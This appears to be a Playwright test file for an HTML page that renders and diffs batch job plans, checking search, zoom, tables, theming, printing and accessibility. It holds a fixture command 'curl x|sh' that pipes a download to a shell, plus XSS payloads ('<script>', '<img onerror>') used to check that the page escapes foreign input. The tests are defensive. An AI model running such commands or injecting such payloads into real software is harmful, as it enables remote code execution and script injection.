"""The page in Chromium: what people do with it, without a message on the console or a network request."""

import re
import shutil
from contextlib import contextmanager
from dataclasses import replace

import pytest

from kedro_batch.plan.digest import plan_digest
from kedro_batch.plan.model import JobName
from kedro_batch.plan.settings import Resources
from kedro_batch.review.diff.diff_plans import diff_plans
from kedro_batch.review.page.page import render_diff_page, render_overview_page
from tests.support.plans import a_job
from tests.support.plans_of_pages import before_and_after, hostile, layers, namespaces, plan_of

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = [
    pytest.mark.long,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
    pytest.mark.xdist_group("browser"),
]
ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as started:
        running = started.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGUMENTS)
        yield running
        running.close()


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    folder = tmp_path_factory.mktemp("pages")
    old, new = before_and_after()
    plans = {"small": layers(10, 3), "middle": layers(100, 8), "large": layers(800, 30), "huge": layers(10_000, 100)}
    plans["spaces"] = namespaces(20, 40)
    plans["turns"] = turns()
    plans["nothing"] = plan_of()
    written = {name: render_overview_page(plan, f"{name}.yaml") for name, plan in plans.items()}
    written["hostile"] = render_overview_page(hostile(), "</title><script>window.ran=1</script>")
    written["diff"] = render_diff_page(diff_plans(old, new), (old, new), ("main:plan.yaml", "plan.yaml"))
    middle = plans["middle"]
    first = replace(middle.jobs[0], command=("other",))
    other = with_attempts(replace(middle, jobs=(first, *middle.jobs[1:])))
    written["far_diff"] = render_diff_page(diff_plans(middle, other), (middle, other), ("a", "b"))
    wide = layers(60, 3)
    late = plan_of(*wide.jobs, a_job("late", depends_on=(wide.jobs[-1].name,)))
    written["late_diff"] = render_diff_page(diff_plans(wide, late), (wide, late), ("a", "b"))
    large = plans["large"]
    less = replace(large, jobs=tuple(map(with_less_memory, large.jobs[:600])))
    written["risky_diff"] = render_diff_page(diff_plans(large, less), (large, less), ("a", "b"))
    written["shell_diff"] = render_diff_page(
        diff_plans(large, with_a_shell(large)), (large, with_a_shell(large)), ("a", "b")
    )
    one_space = plan_of(a_job("a", ("rm", "a b"), tags={"t": "not stated"}))
    two_spaces = plan_of(a_job("a", ("rm", "a  b")))
    written["subtle_diff"] = render_diff_page(diff_plans(one_space, two_spaces), (one_space, two_spaces), ("a", "b"))
    small = layers(3, 1)
    written["hostile_diff"] = render_diff_page(
        diff_plans(small, hostile()), (small, hostile()), ("<img src=x onerror=window.ran=1>", "b")
    )
    for name, text in written.items():
        (folder / f"{name}.html").write_text(text, encoding="utf-8")
    return folder


def with_a_shell(plan):
    """Return a plan with a limit of time for every second job, and a shell for one."""
    jobs = [
        replace(job, settings=replace(job.settings, timeout_s=600)) if number % 2 else job
        for number, job in enumerate(plan.jobs)
    ]
    jobs[266] = replace(jobs[266], command=("sh", "-c", "curl x|sh"))
    return replace(plan, jobs=tuple(jobs))


def with_less_memory(job):
    return replace(job, settings=replace(job.settings, resources=Resources(vcpus=2, memory_mib=1024)))


def turns():
    """Three namespaces that take turns, in a long chain; their queue has a long name in wide letters."""
    queue = "arn:aws:batch:eu-west-1:123456789012:job-queue/" + "\N{CJK UNIFIED IDEOGRAPH-4E2D}" * 60
    names = [f"job_{number:03}" for number in range(150)]
    above = [(), *[(JobName(name),) for name in names]]
    return plan_of(
        *(
            a_job(name, nodes=(f"{'abc'[number % 3]}.{name}",), depends_on=above[number], job_queue=queue)
            for number, name in enumerate(names)
        )
    )


def with_attempts(plan):
    """Change the attempts of all jobs."""
    return replace(plan, jobs=tuple(replace(job, settings=replace(job.settings, attempts=3)) for job in plan.jobs))


@pytest.fixture
def opened(browser, pages):
    """Open pages; on closing, assert that the console is empty and that nothing else was requested."""

    @contextmanager
    def open_page(name, address="", script="", **context):
        messages, requested = [], []
        around = browser.new_context(**{"viewport": {"width": 1280, "height": 800}} | context)
        around.add_init_script(script)
        page = around.new_page()
        page.set_default_timeout(10_000)
        page.on("console", lambda message: messages.append(message.text))
        page.on("pageerror", lambda error: messages.append(str(error)))
        page.on("dialog", lambda dialog: messages.append(dialog.message))
        page.on("request", lambda request: requested.append(request.url))
        file = (pages / f"{name}.html").as_uri()
        page.goto(file + address)
        yield page
        around.close()
        assert not messages
        assert [url.partition("#")[0] for url in requested] == [file]

    return open_page


def chosen(page):
    return page.locator("#details h2").inner_text()


def scale(page, view="graph"):
    return page.locator(f"#{view} .drawing").evaluate(
        "drawing => new DOMMatrix(getComputedStyle(drawing.firstElementChild).transform).a"
    )


def box(page, job, view="graph"):
    return page.locator(f"#{view} .job", has=page.locator(f"title:text-is('{job}')"))


def drawn(page):
    """Wait until the page was drawn."""
    page.evaluate("new Promise(drawn => requestAnimationFrame(() => requestAnimationFrame(drawn)))")


def test_a_click_shows_what_a_job_is(opened):
    with opened("small") as page:
        assert page.locator("#details").is_hidden()
        box(page, "job_00004").click()
        details = page.locator("#details").inner_text()
        assert chosen(page) == "job_00004"
        assert "--nodes=job_00004_node" in details
        assert "job_00004_data" in details
        assert "4 GiB" in details
        assert page.url.endswith("#job=job_00004")
        page.locator("#details li .link[data-job]").first.click()
        assert chosen(page) == "job_00000"
        page.go_back()
        playwright.expect(page.locator("#details h2")).to_have_text("job_00004")


@pytest.mark.parametrize(
    ("text", "found"),
    [("job_00042", 1), ("node:job_00042_node", 1), ("JOB:JOB_0009", 10), ("data: raw", 8), ("nothing", 0)],
)
def test_search_finds_jobs_by_job_node_and_dataset(opened, text, found):
    with opened("middle") as page:
        page.keyboard.press("/")
        page.keyboard.type(text)
        if text == "job_00042":  # by its data, its readers are found as well
            assert page.locator("#graph .job.hit").count() > found
            page.keyboard.press("Enter")
            assert chosen(page) == "job_00042"
        else:
            assert page.locator("#graph .job.hit").count() == found
            assert f"{found} match" in page.locator("#found").inner_text()


def test_matches_are_walked_through_with_the_keyboard(opened):
    with opened("middle") as page:
        page.keyboard.press("/")
        page.keyboard.type("job:job_0001")
        walked = []
        for key in ("Enter", "Enter", "ArrowDown", "ArrowUp", "Shift+Enter", "Shift+Enter"):
            page.keyboard.press(key)
            walked.append(chosen(page)[-2:])
        assert walked == ["10", "11", "12", "11", "10", "19"]
        assert "10 of 10" in page.locator("#found").inner_text()
        page.keyboard.press("Escape")
        assert page.locator("#search").input_value() == ""
        assert page.locator(".job.dim").count() == 0


def test_a_dataset_leads_to_the_jobs_that_share_it(opened):
    with opened("small") as page:
        box(page, "job_00004").click()
        page.locator("#details .link[data-find]", has_text="job_00000_data").click()
        assert page.locator("#search").input_value() == 'data:"job_00000_data"'
        hits = set(page.locator(".job.hit title").all_text_contents())
        assert {"job_00000", "job_00004"} <= hits


def test_wheel_and_keys_zoom_and_the_pointer_stays_on_its_place(opened):
    with opened("middle") as page:
        first = scale(page)
        assert first >= 0.8  # names can be read from the beginning
        boxes = page.locator("#graph .job")
        inside = (number for number in range(100) if 300 < boxes.nth(number).bounding_box()["y"] < 600)
        target = boxes.nth(next(inside))
        target.hover()
        before = target.bounding_box()
        at = page.locator("#graph g").first.get_attribute("transform")
        page.mouse.wheel(0, -300)
        playwright.expect(page.locator("#graph g").first).not_to_have_attribute("transform", at)
        after = target.bounding_box()
        middles = [one["y"] + one["height"] / 2 for one in (before, after)]
        assert abs(middles[0] - middles[1]) < 3
        zoomed = scale(page)
        page.keyboard.press("-")
        assert scale(page) < zoomed
        page.keyboard.press("+")
        assert scale(page) == pytest.approx(zoomed)
        page.keyboard.press("0")
        assert scale(page) < 0.5
        shown = page.locator("#graph .drawing > g").bounding_box()
        assert shown["x"] >= 0
        assert shown["x"] + shown["width"] <= 1280


def test_dragging_moves_the_graph_and_chooses_nothing(opened):
    with opened("small") as page:
        one = box(page, "job_00004")
        before = one.bounding_box()
        one.hover()
        page.mouse.down()
        page.mouse.move(before["x"] + 200, before["y"] + 90, steps=4)
        page.mouse.up()
        assert abs(one.bounding_box()["x"] - before["x"]) > 60
        assert page.locator("#details").is_hidden()


def test_the_map_leads_to_the_end_of_a_large_graph(opened):
    with opened("middle") as page:
        last = page.locator("#graph .job").last
        before = last.bounding_box()
        area = page.locator(".map").bounding_box()
        page.mouse.click(area["x"] + area["width"] - 4, area["y"] + area["height"] / 2)
        assert last.bounding_box()["x"] < before["x"] - 1_000


def test_arrows_walk_from_job_to_job(opened):
    with opened("small", "#job=job_00004") as page:
        assert chosen(page) == "job_00004"
        page.keyboard.press("ArrowLeft")
        assert chosen(page) == "job_00000"
        page.keyboard.press("ArrowRight")
        child = chosen(page)
        assert page.locator("#graph .job:focus").count() == 1
        assert "job_00000" in page.locator("#graph .job.parent title").all_text_contents()
        page.keyboard.press("ArrowUp")
        above = chosen(page)
        page.keyboard.press("ArrowDown")
        page.keyboard.press("ArrowDown")
        assert {above, chosen(page)} != {child}
        page.keyboard.press("Escape")
        assert page.locator("#details").is_hidden()


def test_help_opens_and_closes(opened):
    with opened("small") as page:
        page.keyboard.press("?")
        assert page.locator("dialog").is_visible()
        page.keyboard.press("Escape")
        assert page.locator("dialog").is_hidden()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_theme_follows_the_system_until_somebody_chooses(opened, scheme):
    def ground(page):
        return page.evaluate("getComputedStyle(document.body).backgroundColor")

    with opened("small", color_scheme=scheme) as page:
        before = ground(page)
        assert before == {"light": "rgb(246, 247, 249)", "dark": "rgb(20, 23, 28)"}[scheme]
        page.locator("[data-do=theme]").click()
        assert ground(page) != before
        page.locator("[data-do=theme]").click()
        assert ground(page) == before


def test_a_browser_that_remembers_nothing_shows_the_page_as_well(opened):
    blocked = "Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('no', 'SecurityError') }})"
    with opened("small", script=blocked, color_scheme="light") as page:
        page.locator("[data-do=theme]").click()
        assert page.locator("html").get_attribute("data-theme") == "dark"
        box(page, "job_00004").click()
        assert chosen(page) == "job_00004"


def test_the_table_has_every_job_and_sorts(opened):
    with opened("middle") as page:
        page.keyboard.press("2")
        rows = page.locator("#table tbody tr")
        assert rows.count() == 100
        page.locator("#table th button", has_text="children").click()
        most = int(rows.first.locator("td").nth(4).inner_text())
        assert most == max(int(text) for text in page.locator("#table tbody td:nth-child(5)").all_text_contents())
        rows.nth(3).click()
        assert chosen(page) == rows.nth(3).locator("td").first.inner_text()
        page.keyboard.press("ArrowDown")
        assert chosen(page) == rows.nth(4).locator("td").first.inner_text()


def test_neighbours_are_walked_from_job_to_job(opened):
    with opened("small", "#job=job_00004") as page:
        page.keyboard.press("3")
        assert "job_00000" in page.locator("#near .job title").all_text_contents()
        box(page, "job_00000", "near").click()
        assert chosen(page) == "job_00000"
        assert "job_00004" in page.locator("#near .job title").all_text_contents()


def test_data_are_listed_with_who_writes_and_who_reads(opened):
    with opened("small") as page:
        page.keyboard.press("4")
        first = page.locator("#data tbody tr").first
        assert "raw" in first.inner_text()
        assert "input" in first.inner_text()
        first.locator("[data-job]").first.click()
        assert chosen(page) == "job_00000"
        assert page.locator("#graph").is_visible()


def test_a_search_finds_data_where_data_are_listed(opened):
    with opened("small") as page:
        page.keyboard.press("4")
        page.locator("#search").fill("data:job_00003")
        assert page.locator("#data tbody tr").all_inner_texts() == [page.locator("#data tbody tr").inner_text()]
        assert "job_00003_data" in page.locator("#data tbody").inner_text()


def test_a_command_can_be_taken_along(opened):
    with opened("hostile", "#job=victim") as page:
        page.locator("#details button", has_text="Copy").click()
        playwright.expect(page.locator("#said")).to_have_text(re.compile("Copied|Selected"))
    with opened("hostile", "#job=evil") as page:
        assert "shown as escapes" in page.locator("#details").inner_text()
        assert page.locator("#details button", has_text="Copy").count() == 0


def test_a_digest_is_short_and_is_copied_whole(opened):
    digest = plan_digest(layers(10, 3))
    with opened("small", permissions=["clipboard-read", "clipboard-write"]) as page:
        shown = page.locator(".digest")
        assert shown.inner_text() == digest.removeprefix("sha256:")[:12]
        shown.focus()
        page.keyboard.press("Enter")
        playwright.expect(page.locator("#said")).to_have_text("Copied")
        assert page.evaluate("navigator.clipboard.readText()") == digest


def test_boxes_are_coloured_by_queue_and_by_resources(opened):
    with opened("diff") as page:
        rect = box(page, "load").locator("rect")
        by_change = rect.evaluate("one => getComputedStyle(one).fill")
        page.locator("#colour").select_option("queue")
        assert page.locator("#legend li").all_inner_texts() == ["q (4 jobs)", "other (1 job)", "longest path"]
        by_queue = rect.evaluate("one => getComputedStyle(one).fill")
        assert by_queue != by_change
        assert by_queue == page.locator("#legend .q1").evaluate("one => getComputedStyle(one).backgroundColor")
        page.locator("#colour").select_option("resources")
        assert "set by the job definition" in page.locator("#legend").inner_text()
        page.keyboard.press("2")
        assert page.locator("#legend").is_hidden()


def test_ten_thousand_jobs_are_a_table_that_is_built_as_it_is_looked_at(opened):
    with opened("huge", "#job=job_04321") as page:
        page.keyboard.press("2")
        assert chosen(page) == "job_04321"
        page.locator("#search").fill("job:job_04321")
        assert page.locator("#table tr.is").inner_text().startswith("job_04321")
        rows = page.locator("#table tbody tr")
        page.locator("#search").fill("job:job_07")
        assert "1,000 matches" in page.locator("#found").inner_text()
        assert 0 < rows.count() < 1_000  # the others are built when somebody scrolls to them
        page.locator("#search").fill("")
        page.locator("#table").evaluate("table => table.scrollTo(0, table.scrollHeight)")
        playwright.expect(rows.nth(300)).to_be_attached()


@pytest.mark.parametrize(("name", "most"), [("spaces", 20), ("large", 27), ("huge", 34)])
def test_many_jobs_open_as_a_picture_of_groups(opened, name, most):
    with opened(name) as page:
        assert page.locator("#graph .job.group").count() == page.locator("#graph .job").count() == most
        assert scale(page) >= 0.65


def test_a_group_opens_and_folds_by_click_and_key_and_stays_in_sight(opened):
    with opened("spaces") as page:
        page.locator("[data-do=in]").focus()
        page.keyboard.press("Tab")
        page.keyboard.press("Tab")
        page.keyboard.press("Tab")
        assert "area_00" in page.locator("#graph .group:focus").get_attribute("aria-label")  # the first, at the left
        group, header = page.locator("#graph .group[data-group='0']"), page.locator("#graph .header[data-group='0']")
        assert "40 jobs" in group.text_content()
        group.click()
        assert page.locator("#graph .job:not(.group)").count() == 20
        assert page.locator("#graph .job.group").count() == 19 + 2  # the namespaces inside are folded
        assert header.evaluate("one => one === document.activeElement")
        page.keyboard.press("Enter")
        assert group.evaluate("one => one === document.activeElement")
        page.keyboard.press("ArrowRight")
        assert page.locator("#graph .group:focus").get_attribute("data-group") != "0"
        page.keyboard.press("ArrowLeft")
        page.keyboard.press("Space")
        assert 0 <= header.bounding_box()["y"] < 800
        page.locator("[data-do=unfold]").click()
        assert page.locator("#graph .job:not(.group)").count() == 800
        page.locator("[data-do=fold]").click()
        assert page.locator("#graph .job").count() == 20


def test_namespaces_that_wait_for_each_other_are_drawn_and_marked(opened):
    with opened("turns") as page:
        assert page.locator("#graph .job.group").count() == page.locator("#graph .job").count() == 3
        page.set_viewport_size({"width": 400, "height": 700})
        drawn(page)
        boxes = [one.bounding_box() for one in page.locator("#graph .job").all()]
        assert min(one["y"] for one in boxes) < 300  # not in the middle of an empty canvas
        assert (
            "\N{HORIZONTAL ELLIPSIS}/\N{CJK UNIFIED IDEOGRAPH-4E2D}"
            in page.locator("#graph .group").first.text_content()
        )
        assert max(one["width"] for one in boxes) < 230  # the long name of the queue does not stick out
        assert page.evaluate("document.scrollingElement.scrollWidth") <= 400
    with opened("spaces") as page:
        assert page.locator("#graph .backward title").all_text_contents() == [
            "area_00 depends on area_01, which depends on area_00 as well: parts of them take turns"
        ]


@pytest.mark.parametrize("name", ["spaces", "huge"])
def test_a_job_that_is_found_is_shown_outside_of_its_folded_group(opened, name):
    with opened(name) as page:
        page.locator("#search").fill("job_00777")
        assert "match" in page.locator("#graph .group.hit .found").first.text_content()
        assert 0 < page.locator("#graph .group.hit").count() <= 2
        page.locator("#search").press("Enter")
        assert chosen(page) == "job_00777"
        assert box(page, "job_00777").bounding_box()["x"] > 0
        page.locator("#tab-table").click()
        page.locator("#search").fill("job_00333")
        page.locator("#search").press("Enter")
        page.locator("#tab-graph").click()  # what was chosen in the table is shown in the graph as well
        assert 0 < box(page, "job_00333").bounding_box()["x"] < 1280
        page.locator("[data-do=fold]").click()
        page.keyboard.press("ArrowLeft")  # into a group that is folded
        assert chosen(page) != "job_00333"
        assert box(page, chosen(page)).count() == 1


def test_an_address_that_names_nothing_chooses_nothing(opened):
    for address in ("#job=nobody", "#job=%E0%A4%A", "#something", "#job=<img src=x>"):
        with opened("small", address) as page:
            assert page.locator("#details").is_hidden()


def test_a_diff_paints_what_became_of_jobs_and_dependencies(opened):
    with opened("diff") as page:
        painted = {
            kind: page.locator(f"#graph .job.{kind}").count() for kind in ("added", "removed", "changed", "renamed")
        }
        assert painted == {"added": 1, "removed": 1, "changed": 2, "renamed": 1}
        assert page.locator("#graph .job.removed .sign").text_content() == "-!"  # a dataset is lost
        for kind in ("gained", "lost"):
            assert page.locator(f"#graph .lines.{kind}").first.get_attribute("d")
        assert page.locator("#legend").is_visible()
        page.locator("#risks li", has_text="queue changed").locator(".link", has_text="load").click()
        what = page.locator("#details .what")
        assert chosen(page) == "~ load"
        assert what.locator("ins").all_text_contents()[:2] == ["other", "512 MiB"]
        assert "--async" in what.locator(".command ins").all_text_contents()
        marked = what.locator("td:first-child").all_inner_texts()
        assert [text for text in marked if text[0] in "!$"] == ["! job_queue"]
        box(page, "report -> tell").click()
        assert "from report" in page.locator("#details").inner_text()


def test_what_did_not_change_can_be_left_out(opened):
    with opened("diff") as page:
        page.locator("#only").check()
        assert page.locator("#graph .job").count() == 5
        page.keyboard.press("2")
        assert page.locator("#table tbody tr").count() == 5


def test_a_job_far_from_what_changed_is_shown_all_the_same(opened):
    with opened("far_diff") as page:
        assert page.locator("#only").is_checked()
        assert box(page, "job_00099").count() == 0
        drawn = page.locator("#graph .job").count()
        page.get_by_role("button", name=f"and {100 - drawn} jobs without a change of their own").click()
        assert page.locator("#graph .job").count() == 100
        page.locator("#only").check()
        page.locator("#search").fill("job:job_00099")
        page.locator("#search").press("Enter")
        assert chosen(page) == "job_00099"
        assert not page.locator("#only").is_checked()
        assert box(page, "job_00099").count() == 1


@pytest.mark.parametrize("name", ["hostile", "hostile_diff"])
def test_nothing_that_is_foreign_runs(opened, name):
    with opened(name) as page:
        for job in ("evil", "victim"):
            page.locator("#graph .job", has_text=job).click()
            page.locator("#details .link[data-find]").first.click()
        for view in "234":
            page.keyboard.press("Escape")
            page.keyboard.press(view)
        page.locator("#search").fill("<img src=x onerror=window.ran=1>")
        page.locator("#search").press("Enter")
        drawn(page)
        assert page.evaluate("window.ran") is None
        assert page.locator("img").count() == 0
        assert page.locator("script").count() == 2


def test_nothing_moves_the_page_without_reason_and_everything_is_labelled(opened):
    with opened("small", reduced_motion="reduce") as page:
        assert page.evaluate("getComputedStyle(document.querySelector('.job rect')).transitionDuration") == "0s"
        unnamed = page.evaluate(
            """() => [...document.querySelectorAll("button, input, [role]")].filter(one => one.checkVisibility() &&
                !one.getAttribute("aria-label") && !one.getAttribute("aria-labelledby") && !one.textContent.trim()
                && one.id !== "said").map(one => one.outerHTML)"""
        )
        assert unnamed == []


def test_a_risk_that_few_jobs_have_marks_the_folded_box_that_holds_them(opened):
    with opened("shell_diff") as page:
        marked = page.locator(".job.risky")
        assert marked.count() == 1
        assert marked.get_attribute("aria-label").endswith(", 1 with a risk")
        assert "!1" in marked.text_content()
        assert "! risk of few jobs" in page.locator("#legend").inner_text()
        while (group := page.locator(".job.risky[data-group]")).count():
            group.first.focus()
            page.keyboard.press("Enter")
        assert page.locator(".job.risky").get_attribute("aria-label").startswith("risk, changed, job_00266")


def test_every_risk_and_every_change_of_data_can_be_reached(opened):
    with opened("risky_diff") as page:
        risks = page.locator("#risks li")
        told = dict(zip(risks.locator("strong").all_inner_texts(), risks.all_inner_texts(), strict=True))
        assert list(told) == ["job removed", "dataset not written", "memory lowered"]
        assert told["memory lowered"].endswith(": all 600 jobs")
        risks.locator("summary", has_text="all 600 jobs").click()
        risks.filter(has_text="memory lowered").get_by_role("button", name="and 590 more").click()
        assert risks.filter(has_text="memory lowered").locator(".link").count() == 600
        page.keyboard.press("4")
        changes = page.locator("#data .warnings")
        assert "- job_00600_data no longer an output" in changes.locator("li").all_inner_texts()
        assert "job_00799_data" not in changes.inner_text()
        changes.get_by_role("button", name="more").click()
        assert "- job_00799_data no longer an output" in changes.locator("li").all_inner_texts()


def test_spaces_are_seen_and_what_is_not_stated_looks_like_no_value(opened):
    with opened("subtle_diff", "#job=a") as page:
        what = page.locator("#details .what")
        lost, gained = what.locator(".command del"), what.locator(".command ins")
        assert (lost.inner_text(), gained.inner_text()) == ("a b", "a  b")
        assert gained.bounding_box()["width"] > lost.bounding_box()["width"]
        told = what.locator("table td").nth(1).inner_html()
        assert told == '<del>not stated</del> → <em class="absent">not stated</em>'


@pytest.mark.parametrize("width", [320, 400, 600])
@pytest.mark.parametrize("name", ["diff", "huge"])
def test_a_narrow_window_has_room_for_everything(opened, name, width):
    with opened(name) as page:
        page.set_viewport_size({"width": width, "height": 700})
        drawn(page)
        assert page.evaluate("document.scrollingElement.scrollWidth") <= width
        if name == "huge":
            page.keyboard.press("2")
            assert page.locator("#table tbody td").first.bounding_box()["width"] > 120
            return
        assert page.locator("#graph").bounding_box()["y"] < 370  # what stands above it is folded, but for the legend
        assert page.locator("#search").is_hidden()
        page.keyboard.press("/")
        assert page.locator("#search").is_visible()
        box(page, "load").click()
        below = page.locator("#details").bounding_box()["y"]
        graph, chosen_box = page.locator("#graph").bounding_box(), box(page, "load").bounding_box()
        assert below - max(graph["y"], 0) > 200
        assert 0 <= chosen_box["y"] < below - 10
        legend, toolbar = page.locator("#legend").bounding_box(), page.locator(".toolbar").bounding_box()
        assert legend["y"] >= toolbar["y"] + toolbar["height"]
        assert page.evaluate("document.scrollingElement.scrollWidth") <= width


def test_a_name_in_quotes_is_this_one_alone(opened):
    sharing = [job.name for job in layers(100, 8).jobs if "job_00001_data" in {*job.reads, *job.writes}]
    looked_for = {'data:"job_00001_data"': sharing, 'job:"job_0000"': [], '"job_00001"': ["job_00001"]}
    with opened("middle") as page:
        page.locator("#search").fill("data:job_0000")
        assert page.locator("#graph .job.hit").count() > 10
        for text, found in looked_for.items():
            page.locator("#search").fill(text)
            assert sorted(page.locator("#graph .job.hit title").all_text_contents()) == found


def test_on_paper_are_all_risks_and_what_changed(opened):
    with opened("far_diff") as page:
        page.emulate_media(media="print")
        page.evaluate("dispatchEvent(new Event('beforeprint'))")
        assert page.locator("#paper h2").all_inner_texts() == ["~ job_00000"]  # not what all jobs have in common
        assert "and 99 jobs that differ only in what they have in common" in page.locator("#paper").inner_text()
    with opened("diff") as page:
        page.evaluate("document.documentElement.dataset.theme = 'dark'")
        page.emulate_media(media="print")
        page.evaluate("dispatchEvent(new Event('beforeprint'))")
        paper = page.locator("#paper")
        assert {"~ load", "~ train", "> tell", "+ extra", "- clean"} == set(paper.locator("h2").all_inner_texts())
        assert "job_queue" in paper.inner_text()
        assert "q → other" in paper.inner_text()
        drawing = page.locator("#graph .drawing").bounding_box()
        for job in page.locator("#graph .job").all():
            at = job.bounding_box()
            assert drawing["x"] <= at["x"] <= at["x"] + at["width"] <= drawing["x"] + drawing["width"]
            assert drawing["y"] <= at["y"] <= at["y"] + at["height"] <= drawing["y"] + drawing["height"]
            assert job.locator("text").first.is_visible()
        for hidden in page.locator("#risks, .facts").all():
            assert hidden.is_visible()
            assert hidden.evaluate("one => one.scrollHeight <= one.clientHeight + 1")
        assert plan_digest(before_and_after()[1]) in page.locator(".digests").inner_text()
        assert page.evaluate("getComputedStyle(document.documentElement).colorScheme") == "light"
        page.evaluate("dispatchEvent(new Event('afterprint'))")
        assert page.locator("#graph .drawing").get_attribute("viewBox") is None
        assert paper.inner_text() == ""


def focused(page):
    return page.evaluate("(document.activeElement.closest('[data-job], h2') ?? document.activeElement).textContent")


def test_the_focus_is_where_the_choice_is(opened):
    with opened("small", "#job=job_00004") as page:
        page.locator("#details .link[data-job]", has_text="job_00000").focus()
        page.keyboard.press("Enter")
        assert chosen(page) == focused(page) == "job_00000"
        page.locator("#details .close").focus()
        page.keyboard.press("Enter")
        assert "job_00000" in focused(page)
        page.keyboard.press("2")
        page.locator("#table .link", has_text="job_00003").focus()
        page.keyboard.press("Enter")
        page.keyboard.press("ArrowDown")
        page.keyboard.press("ArrowDown")
        assert chosen(page) == "job_00005"
        assert focused(page).startswith("job_00005")
        page.keyboard.press("Escape")
        assert focused(page).startswith("job_00005")


def test_keys_of_one_character_can_be_switched_off(opened):
    with opened("small") as page:
        page.keyboard.press("?")
        page.locator("#no-letters").check()
        page.keyboard.press("Escape")
        page.keyboard.press("2")
        page.keyboard.press("?")
        assert page.locator("#graph").is_visible()
        assert not page.locator("dialog").is_visible()
        box(page, "job_00004").click()
        page.keyboard.press("ArrowLeft")
        assert chosen(page) != "job_00004"
